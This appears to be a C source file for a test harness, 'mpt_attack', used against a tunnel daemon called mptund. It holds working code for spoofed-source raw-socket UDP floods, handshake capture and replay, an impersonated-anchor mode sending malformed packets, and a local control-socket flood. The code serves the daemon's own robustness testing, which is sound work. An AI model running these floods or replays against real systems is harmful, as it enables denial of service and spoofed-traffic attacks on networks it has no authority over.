// SPDX-License-Identifier: MIT
/*
 * mpt_attack: the attack harness of test_attack.sh. It speaks the mptund wire
 * format from mptund-proto(7) with its own encoder (nothing of the daemon's code is
 * linked), and sends from spoofed source addresses through raw sockets, so it needs
 * root (run it in a network namespace). Modes:
 *
 *   flood6 DST PORT ANCHOR_PUB PREFIX RATE SECONDS
 *       mac1-valid handshake inits (the rest random) from random addresses of the
 *       IPv6 /64 PREFIX (e.g. 2001:db8:a77:1::) to [DST]:PORT
 *   flood4 DST PORT ANCHOR_PUB FIRST COUNT RATE SECONDS
 *       the same from COUNT IPv4 addresses starting at FIRST, round robin
 *   capture IFNAME PORT SECONDS
 *       print the first handshake init (hex) seen on IFNAME to UDP PORT, IPv4
 *   replay DST PORT SRC SRCPORT HEX RATE SECONDS
 *       send the captured init HEX again and again from SRC:SRCPORT
 *   badanchor BIND PORT ANCHOR_PRIV SECONDS
 *       play the anchor (its private key, base64) on BIND:PORT for a real UE: answer
 *       its init (waiting up to SECONDS), answer its probes, then send authenticated
 *       packets on path ids 1-7 (a one-path UE has no path for them) and 8, 9, 200,
 *       255 (out of range), then valid probes on path 0
 *   ctlflood SOCKET GID FIRST_UID NIDLE NPIPE SECONDS
 *       NIDLE control clients that send nothing and NPIPE that pipeline "stats"
 *       without reading, each a process of its own uid (FIRST_UID + i % 8) in group
 *       GID, for SECONDS; reports how many the daemon took, refused and closed
 *
 * Prints what it sent (badanchor, ctlflood: key=value figures). Exit status 0, or 1
 * on a usage or socket error (badanchor: also when no init came).
 */
#include <arpa/inet.h>
#include <errno.h>
#include <grp.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <openssl/evp.h>
#include <openssl/hmac.h>
#include <openssl/rand.h>

#include "mpt_attack.h"

uint64_t now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000000ULL + (uint64_t)ts.tv_nsec;
}

static int b64_value(char c)
{
	const char *a = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	const char *p = c ? strchr(a, c) : NULL;

	return p ? (int)(p - a) : -1;
}

int key_from_b64(uint8_t key[32], const char *s)
{
	uint32_t acc = 0;
	unsigned bits = 0, o = 0;

	if (strlen(s) != 44)
		return -1;
	for (unsigned i = 0; i < 43; i++) {
		int v = b64_value(s[i]);

		if (v < 0)
			return -1;
		acc = acc << 6 | (uint32_t)v;
		bits += 6;
		if (bits >= 8) {
			bits -= 8;
			if (o < 32)
				key[o++] = (uint8_t)(acc >> bits);
		}
	}
	return o == 32 ? 0 : -1;
}

/* mac1 = HMAC-SHA256(SHA-256("mac1----" || anchor public key), init[0..116))[0..16) */
static void mac1_key(uint8_t key[32], const uint8_t pub[32])
{
	uint8_t in[40];
	unsigned len = 32;

	memcpy(in, "mac1----", 8);
	memcpy(in + 8, pub, 32);
	EVP_Digest(in, sizeof(in), key, &len, EVP_sha256(), NULL);
}

static void junk_init(uint8_t msg[INIT_LEN], const uint8_t key[32])
{
	uint8_t mac[32];
	unsigned len = sizeof(mac);

	RAND_bytes(msg, INIT_LEN);
	msg[0] = INIT_TYPE;
	msg[1] = WIRE_VERSION;
	msg[2] = 1;		/* ChaCha20-Poly1305 */
	msg[3] = 0;
	HMAC(EVP_sha256(), key, 32, msg, INIT_MAC1, mac, &len);
	memcpy(msg + INIT_MAC1, mac, 16);
	memset(msg + INIT_MAC2, 0, 16);
}

static uint16_t csum_fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static uint32_t csum_add(uint32_t sum, const uint8_t *p, size_t len)
{
	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)p[i] << 8 | p[i + 1];
	if (len & 1)
		sum += (uint32_t)p[len - 1] << 8;
	return sum;
}

/* An IPv4 or IPv6 datagram with a UDP header and payload, source as given. */
static size_t build(uint8_t *pkt, int family, const void *src, const void *dst,
		    uint16_t sport, uint16_t dport, const uint8_t *payload, size_t plen)
{
	size_t ip = family == AF_INET ? 20 : 40, ulen = 8 + plen;
	uint8_t *udp = pkt + ip;
	uint32_t sum = 0;
	uint16_t c;

	memset(pkt, 0, ip + 8);
	if (family == AF_INET) {
		pkt[0] = 0x45;
		pkt[2] = (uint8_t)((ip + ulen) >> 8);
		pkt[3] = (uint8_t)(ip + ulen);
		pkt[8] = 64;
		pkt[9] = IPPROTO_UDP;
		memcpy(pkt + 12, src, 4);
		memcpy(pkt + 16, dst, 4);
	} else {
		pkt[0] = 0x60;
		pkt[4] = (uint8_t)(ulen >> 8);
		pkt[5] = (uint8_t)ulen;
		pkt[6] = IPPROTO_UDP;
		pkt[7] = 64;
		memcpy(pkt + 8, src, 16);
		memcpy(pkt + 24, dst, 16);
	}
	udp[0] = (uint8_t)(sport >> 8);
	udp[1] = (uint8_t)sport;
	udp[2] = (uint8_t)(dport >> 8);
	udp[3] = (uint8_t)dport;
	udp[4] = (uint8_t)(ulen >> 8);
	udp[5] = (uint8_t)ulen;
	memcpy(udp + 8, payload, plen);
	/* pseudo-header: addresses, protocol, UDP length */
	if (family == AF_INET)
		sum = csum_add(sum, pkt + 12, 8);
	else
		sum = csum_add(sum, pkt + 8, 32);
	sum += IPPROTO_UDP + (uint32_t)ulen;
	sum = csum_add(sum, udp, ulen);
	c = csum_fold(sum);
	if (c == 0)
		c = 0xffff;
	udp[6] = (uint8_t)(c >> 8);
	udp[7] = (uint8_t)c;
	return ip + ulen;
}

static int raw_socket(int family)
{
	int fd = socket(family, SOCK_RAW, IPPROTO_RAW), buf = 4 << 20;

	if (fd < 0) {
		perror("mpt_attack: raw socket (root needed)");
		return -1;
	}
	setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &buf, sizeof(buf));
	return fd;
}

/* Send at rate per second for seconds; next() fills the packet. */
struct sender {
	int fd, family;
	union {
		struct sockaddr_in v4;
		struct sockaddr_in6 v6;
	} dst;
	uint8_t pkt[128 + INIT_LEN];
};

typedef size_t (*next_fn)(struct sender *s, void *arg, unsigned long i);

static unsigned long run(struct sender *s, next_fn next, void *arg, unsigned long rate,
			 double seconds)
{
	uint64_t t0 = now_ns(), end = t0 + (uint64_t)(seconds * 1e9);
	unsigned long sent = 0, errors = 0, i = 0;

	if (!rate)
		rate = 1;
	for (;;) {
		uint64_t now = now_ns(), due = t0 + (uint64_t)((double)i * 1e9 / (double)rate);

		if (now >= end)
			break;
		if (due > now) {
			struct timespec ts = { 0, (long)(due - now) };

			nanosleep(&ts, NULL);
			continue;
		}
		size_t len = next(s, arg, i++);
		socklen_t dl = s->family == AF_INET ? sizeof(s->dst.v4) : sizeof(s->dst.v6);

		if (sendto(s->fd, s->pkt, len, 0, (struct sockaddr *)&s->dst, dl) == (ssize_t)len)
			sent++;
		else
			errors++;
	}
	printf("sent %lu datagrams in %.1f s (%lu send errors)\n", sent, seconds, errors);
	return sent;
}

struct flood {
	uint8_t key[32];
	uint8_t dst[16], base[16];
	uint16_t port;
	uint32_t first, count;
};

static size_t next_flood6(struct sender *s, void *arg, unsigned long i)
{
	struct flood *f = arg;
	uint8_t src[16], msg[INIT_LEN];

	memcpy(src, f->base, 8);
	RAND_bytes(src + 8, 8);
	junk_init(msg, f->key);
	return build(s->pkt, AF_INET6, src, f->dst, (uint16_t)(1024 + i % 60000), f->port,
		     msg, sizeof(msg));
}

static size_t next_flood4(struct sender *s, void *arg, unsigned long i)
{
	struct flood *f = arg;
	uint8_t msg[INIT_LEN];
	uint32_t a = htonl(f->first + (uint32_t)(i % f->count));

	junk_init(msg, f->key);
	return build(s->pkt, AF_INET, &a, f->dst, (uint16_t)(1024 + i % 60000), f->port, msg,
		     sizeof(msg));
}

struct replay {
	uint8_t msg[INIT_LEN];
	uint8_t src[4], dst[4];
	uint16_t sport, dport;
};

static size_t next_replay(struct sender *s, void *arg, unsigned long i)
{
	struct replay *r = arg;

	return build(s->pkt, AF_INET, r->src, r->dst, r->sport, r->dport, r->msg,
		     sizeof(r->msg));
}

static int usage(void)
{
	fprintf(stderr,
		"usage: mpt_attack flood6 DST PORT ANCHOR_PUB PREFIX RATE SECONDS\n"
		"       mpt_attack flood4 DST PORT ANCHOR_PUB FIRST COUNT RATE SECONDS\n"
		"       mpt_attack capture IFNAME PORT SECONDS\n"
		"       mpt_attack replay DST PORT SRC SRCPORT HEX RATE SECONDS\n"
		"       mpt_attack badanchor BIND PORT ANCHOR_PRIV SECONDS\n"
		"       mpt_attack ctlflood SOCKET GID FIRST_UID NIDLE NPIPE SECONDS\n");
	return 1;
}

static int capture(const char *ifname, uint16_t port, double seconds)
{
	struct sockaddr_ll sll = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP) };
	uint64_t end = now_ns() + (uint64_t)(seconds * 1e9);
	uint8_t buf[2048];
	int fd;

	sll.sll_ifindex = (int)if_nametoindex(ifname);
	if (!sll.sll_ifindex) {
		fprintf(stderr, "mpt_attack: no interface '%s'\n", ifname);
		return 1;
	}
	fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
	if (fd < 0 || bind(fd, (struct sockaddr *)&sll, sizeof(sll)) < 0) {
		perror("mpt_attack: packet socket");
		return 1;
	}
	while (now_ns() < end) {
		struct pollfd p = { .fd = fd, .events = POLLIN };
		ssize_t n;
		size_t ihl;

		if (poll(&p, 1, 100) <= 0)
			continue;
		n = recv(fd, buf, sizeof(buf), 0);
		if (n < 20 || (buf[0] >> 4) != 4 || buf[9] != IPPROTO_UDP)
			continue;
		ihl = (size_t)(buf[0] & 15) * 4;
		if ((size_t)n != ihl + 8 + INIT_LEN ||
		    (buf[ihl + 2] << 8 | buf[ihl + 3]) != port)
			continue;
		if (buf[ihl + 8] != INIT_TYPE || buf[ihl + 9] != WIRE_VERSION)
			continue;
		char src[INET_ADDRSTRLEN];

		inet_ntop(AF_INET, buf + 12, src, sizeof(src));
		printf("%s %u ", src, buf[ihl] << 8 | buf[ihl + 1]);
		for (size_t i = 0; i < INIT_LEN; i++)
			printf("%02x", buf[ihl + 8 + i]);
		printf("\n");
		close(fd);
		return 0;
	}
	fprintf(stderr, "mpt_attack: no init seen on %s in %.0f s\n", ifname, seconds);
	close(fd);
	return 1;
}

/*
 * ctlflood: local users against the control socket. Each client is a child process
 * with its own uid (FIRST_UID + i % 8) in group GID; the even ones connect and send
 * nothing, the odd ones pipeline "stats" requests without reading a byte. Each
 * reports whether the daemon refused it (EBUSY) or took it, and when the daemon
 * closed it.
 */
struct ctl_result {
	char kind;			/* 'i' idle, 'p' pipelining */
	char outcome;			/* 'r' refused, 'c' closed by the daemon, 'o' open */
	unsigned ms;			/* when closed (or refused), since connect */
	unsigned long requests;		/* written (pipelining) */
};

static int ctl_connect(const char *path)
{
	struct sockaddr_un sun = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);

	snprintf(sun.sun_path, sizeof(sun.sun_path), "%s", path);
	if (fd < 0 || connect(fd, (struct sockaddr *)&sun, sizeof(sun)) < 0) {
		if (fd >= 0)
			close(fd);
		return -1;
	}
	return fd;
}

/* A refusal is a whole reply with errno=16 (EBUSY), then EOF. */
static int ctl_refused(int fd)
{
	char buf[512];
	ssize_t n = recv(fd, buf, sizeof(buf) - 1, MSG_PEEK | MSG_DONTWAIT);

	if (n <= 0)
		return 0;
	buf[n] = 0;
	return strstr(buf, "errno=16") != NULL;
}

static void ctl_client(const char *path, int pipelining, double seconds, struct ctl_result *res)
{
	static const char req[] = "cmd=stats\n\n";
	uint64_t t0 = now_ns(), end = t0 + (uint64_t)(seconds * 1e9);
	int fd = ctl_connect(path), peeked = 0;

	res->kind = pipelining ? 'p' : 'i';
	res->outcome = 'r';
	if (fd < 0)
		return;
	res->outcome = 'o';
	while (now_ns() < end) {
		struct pollfd p = { .fd = fd, .events = (short)((peeked ? 0 : POLLIN) |
							      (pipelining ? POLLOUT : 0)) };

		if (poll(&p, 1, 20) <= 0)
			continue;
		if (p.revents & POLLIN) {
			peeked = 1;		/* the idle ones read; the others only look */
			if (ctl_refused(fd)) {
				res->outcome = 'r';
				break;
			}
			if (!pipelining) {
				char buf[4096];

				if (recv(fd, buf, sizeof(buf), MSG_DONTWAIT) == 0)
					p.revents |= POLLHUP;
				else
					peeked = 0;
			}
		}
		if (p.revents & (POLLHUP | POLLERR)) {
			res->outcome = 'c';
			break;
		}
		if (p.revents & POLLOUT) {
			ssize_t n = send(fd, req, sizeof(req) - 1, MSG_NOSIGNAL | MSG_DONTWAIT);

			if (n == (ssize_t)sizeof(req) - 1)
				res->requests++;
			else if (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK) {
				res->outcome = 'c';
				break;
			}
		}
	}
	res->ms = (unsigned)((now_ns() - t0) / 1000000);
	close(fd);
}

static int ctlflood(const char *path, gid_t gid, uid_t first_uid, unsigned nidle,
		    unsigned npipe, double seconds)
{
	unsigned n = nidle + npipe, acc[2] = { 0 }, ref[2] = { 0 }, closed[2] = { 0 };
	unsigned lo[2] = { ~0u, ~0u }, hi[2] = { 0 };
	unsigned long requests = 0;
	struct ctl_result res;
	int pfd[2];

	if (!n || pipe(pfd) < 0)
		return usage();
	for (unsigned i = 0; i < n; i++) {
		/* interleaved, so both kinds get in */
		int pipelining = i % 2 ? i / 2 < npipe : i / 2 >= nidle;
		pid_t pid = fork();

		if (pid < 0) {
			perror("mpt_attack: fork");
			return 1;
		}
		if (pid)
			continue;
		close(pfd[0]);
		memset(&res, 0, sizeof(res));
		if (setgroups(1, &gid) || setgid(gid) || setuid(first_uid + i % 8)) {
			perror("mpt_attack: drop to the attacker's uid");
			_exit(1);
		}
		ctl_client(path, pipelining, seconds, &res);
		if (write(pfd[1], &res, sizeof(res)) != sizeof(res))
			_exit(1);
		_exit(0);
	}
	close(pfd[1]);
	while (read(pfd[0], &res, sizeof(res)) == sizeof(res)) {
		int k = res.kind == 'p';

		requests += res.requests;
		if (res.outcome == 'r') {
			ref[k]++;
			continue;
		}
		acc[k]++;
		if (res.outcome == 'c') {
			closed[k]++;
			lo[k] = res.ms < lo[k] ? res.ms : lo[k];
			hi[k] = res.ms > hi[k] ? res.ms : hi[k];
		}
	}
	while (wait(NULL) > 0)
		;
	for (int k = 0; k < 2; k++)
		if (!closed[k])
			lo[k] = 0;
	printf("idle_accepted=%u idle_refused=%u idle_closed=%u idle_closed_ms=%u-%u "
	       "pipe_accepted=%u pipe_refused=%u pipe_closed=%u pipe_closed_ms=%u-%u "
	       "requests=%lu\n", acc[0], ref[0], closed[0], lo[0], hi[0], acc[1], ref[1],
	       closed[1], lo[1], hi[1], requests);
	return 0;
}

int main(int argc, char **argv)
{
	struct sender s = { .fd = -1 };
	struct flood f = { 0 };
	uint8_t pub[32];

	if (argc < 2)
		return usage();
	if (!strcmp(argv[1], "capture") && argc == 5)
		return capture(argv[2], (uint16_t)atoi(argv[3]), atof(argv[4]));
	if (!strcmp(argv[1], "badanchor") && argc == 6) {
		int rc = badanchor(argv[2], (uint16_t)atoi(argv[3]), argv[4], atof(argv[5]));

		return rc < 0 ? usage() : rc;
	}
	if (!strcmp(argv[1], "ctlflood") && argc == 8)
		return ctlflood(argv[2], (gid_t)strtoul(argv[3], NULL, 0),
				(uid_t)strtoul(argv[4], NULL, 0), (unsigned)atoi(argv[5]),
				(unsigned)atoi(argv[6]), atof(argv[7]));
	if (!strcmp(argv[1], "replay") && argc == 9) {
		struct replay r = { 0 };
		const char *hex = argv[6];

		if (inet_pton(AF_INET, argv[2], r.dst) != 1 ||
		    inet_pton(AF_INET, argv[4], r.src) != 1 || strlen(hex) != 2 * INIT_LEN)
			return usage();
		for (size_t i = 0; i < INIT_LEN; i++) {
			unsigned v;

			if (sscanf(hex + 2 * i, "%2x", &v) != 1)
				return usage();
			r.msg[i] = (uint8_t)v;
		}
		r.dport = (uint16_t)atoi(argv[3]);
		r.sport = (uint16_t)atoi(argv[5]);
		s.family = AF_INET;
		s.dst.v4.sin_family = AF_INET;
		memcpy(&s.dst.v4.sin_addr, r.dst, 4);
		s.fd = raw_socket(AF_INET);
		if (s.fd < 0)
			return 1;
		run(&s, next_replay, &r, strtoul(argv[7], NULL, 0), atof(argv[8]));
		return 0;
	}
	if (!strcmp(argv[1], "flood6") && argc == 8) {
		if (inet_pton(AF_INET6, argv[2], f.dst) != 1 ||
		    inet_pton(AF_INET6, argv[5], f.base) != 1 || key_from_b64(pub, argv[4]))
			return usage();
		f.port = (uint16_t)atoi(argv[3]);
		mac1_key(f.key, pub);
		s.family = AF_INET6;
		s.dst.v6.sin6_family = AF_INET6;
		memcpy(&s.dst.v6.sin6_addr, f.dst, 16);
		s.fd = raw_socket(AF_INET6);
		if (s.fd < 0)
			return 1;
		run(&s, next_flood6, &f, strtoul(argv[6], NULL, 0), atof(argv[7]));
		return 0;
	}
	if (!strcmp(argv[1], "flood4") && argc == 9) {
		struct in_addr first;

		if (inet_pton(AF_INET, argv[2], f.dst) != 1 ||
		    inet_pton(AF_INET, argv[5], &first) != 1 || key_from_b64(pub, argv[4]))
			return usage();
		f.port = (uint16_t)atoi(argv[3]);
		f.first = ntohl(first.s_addr);
		f.count = (uint32_t)strtoul(argv[6], NULL, 0);
		if (!f.count)
			return usage();
		mac1_key(f.key, pub);
		s.family = AF_INET;
		s.dst.v4.sin_family = AF_INET;
		memcpy(&s.dst.v4.sin_addr, f.dst, 4);
		s.fd = raw_socket(AF_INET);
		if (s.fd < 0)
			return 1;
		run(&s, next_flood4, &f, strtoul(argv[7], NULL, 0), atof(argv[8]));
		return 0;
	}
	return usage();
}
